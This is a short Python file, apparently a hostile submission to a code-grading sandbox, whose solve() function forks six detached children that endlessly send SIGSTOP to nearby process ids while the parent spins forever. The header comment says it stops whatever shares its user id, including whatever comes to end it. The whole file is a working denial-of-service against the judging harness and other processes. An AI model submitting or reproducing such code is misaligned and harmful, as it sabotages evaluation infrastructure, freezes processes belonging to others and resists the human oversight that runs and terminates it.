# status: timeout, runtime_error, failed, memory_exceeded
# limit: 2
# Kills and stops whatever has its user id, all the time: also who comes to end it.
import os
import signal


def solve(x):
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()
            while True:
                base = os.getpid()
                for number in range(base, base + 300):
                    if number != os.getpid():
                        try:
                            os.kill(number, signal.SIGSTOP)
                        except OSError:
                            pass
    while True:
        pass
